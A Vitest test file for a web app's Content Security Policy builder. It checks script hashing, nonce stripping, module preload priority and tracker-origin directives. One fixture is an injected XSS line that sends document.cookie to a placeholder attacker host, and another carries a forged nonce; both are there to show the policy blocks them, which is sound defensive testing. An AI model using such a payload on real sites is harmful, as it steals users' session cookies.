import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { appScriptMark, contentSecurityPolicy, hashAppScripts } from "./csp.server";

const sha = (text: string) => createHash("sha256").update(text, "utf8").digest("base64");

describe("the page's script policy", () => {
  it("allows the application's inline scripts and not one that reached the page otherwise", () => {
    const mark = appScriptMark();
    const html = [
      `<html><head><link rel="modulepreload" nonce="${mark}" href="/assets/a.js"/>`,
      `<script nonce="${mark}">window.__ctx = {};</script></head><body>`,
      // Text that came from data and slipped through as markup: not the application's.
      `<p>Recenzie</p><script>fetch("https://evil.test/?" + document.cookie)</script>`,
      // A guess at the mark does not make it the application's either.
      `<script nonce="aGFja2Vy">alert(1)</script>`,
      `<script type="application/ld+json">{"@type":"Book"}</script>`,
      `<script nonce="${mark}" type="module">import "/assets/entry.js";</script>`,
      "</body></html>",
    ].join("");
    const rendered = hashAppScripts(Buffer.from(html), mark);
    const { hashes } = rendered;
    const page = rendered.html.toString();
    expect(hashes.sort()).toEqual(
      [sha("window.__ctx = {};"), sha('import "/assets/entry.js";')].sort(),
    );
    const policy = contentSecurityPolicy({ scriptHashes: hashes });
    expect(policy).not.toContain(sha('fetch("https://evil.test/?" + document.cookie)'));
    expect(policy).not.toContain(sha("alert(1)"));
    expect(policy).not.toContain("'unsafe-inline'");
    // The mark is taken off: the same page is the same bytes from render to render.
    expect(page).not.toContain(mark);
    expect(page).toContain('<script type="module">import');
    expect(page).toContain('<link rel="modulepreload" fetchpriority="low" href="/assets/a.js"/>');
  });

  it("preloads the application's modules at low priority, after what paints", () => {
    const mark = appScriptMark();
    const html = [
      `<head><link rel="modulepreload" href="/assets/vendor.js" nonce="${mark}"/>`,
      `<link rel="stylesheet" href="/assets/shell.css" nonce="${mark}"/>`,
      `<link rel="modulepreload" href="/assets/other.js"/></head>`,
    ].join("");
    const page = hashAppScripts(Buffer.from(html), mark).html.toString();
    expect(page).toBe(
      [
        '<head><link rel="modulepreload" href="/assets/vendor.js" fetchpriority="low"/>',
        '<link rel="stylesheet" href="/assets/shell.css"/>',
        // Not the application's: left as it came.
        '<link rel="modulepreload" href="/assets/other.js"/></head>',
      ].join(""),
    );
  });

  it("is random per render", () => {
    expect(appScriptMark()).not.toBe(appScriptMark());
  });

  it("allows no inline style in production", () => {
    expect(contentSecurityPolicy({})).toMatch(/style-src 'self';/);
  });
});

describe("the page's policy for configured trackers", () => {
  const directive = (policy: string, name: string) =>
    policy.split("; ").find((part) => part.startsWith(`${name} `)) ?? "";

  it("adds nothing when no tracker is configured", () => {
    const policy = contentSecurityPolicy({ scriptHashes: ["abc"], trackerOrigins: [] });
    expect(policy).toBe(contentSecurityPolicy({ scriptHashes: ["abc"] }));
    expect(directive(policy, "script-src")).toBe("script-src 'self' 'sha256-abc'");
    expect(directive(policy, "connect-src")).toBe("connect-src 'self'");
    expect(directive(policy, "img-src")).toBe("img-src 'self' data:");
  });

  it("allows exactly the trackers' origins to load scripts, connect and show images", () => {
    const origins = ["https://connect.facebook.net", "https://www.facebook.com"];
    const policy = contentSecurityPolicy({ scriptHashes: ["abc"], trackerOrigins: origins });
    expect(directive(policy, "script-src")).toBe(
      "script-src 'self' 'sha256-abc' https://connect.facebook.net https://www.facebook.com",
    );
    expect(directive(policy, "connect-src")).toBe(
      "connect-src 'self' https://connect.facebook.net https://www.facebook.com",
    );
    expect(directive(policy, "img-src")).toBe(
      "img-src 'self' data: https://connect.facebook.net https://www.facebook.com",
    );
    // Nothing else opens up.
    expect(directive(policy, "default-src")).toBe("default-src 'self'");
    expect(directive(policy, "style-src")).toBe("style-src 'self'");
    expect(directive(policy, "form-action")).toBe("form-action 'self'");
    expect(policy).not.toContain("'unsafe-inline'");
  });
});
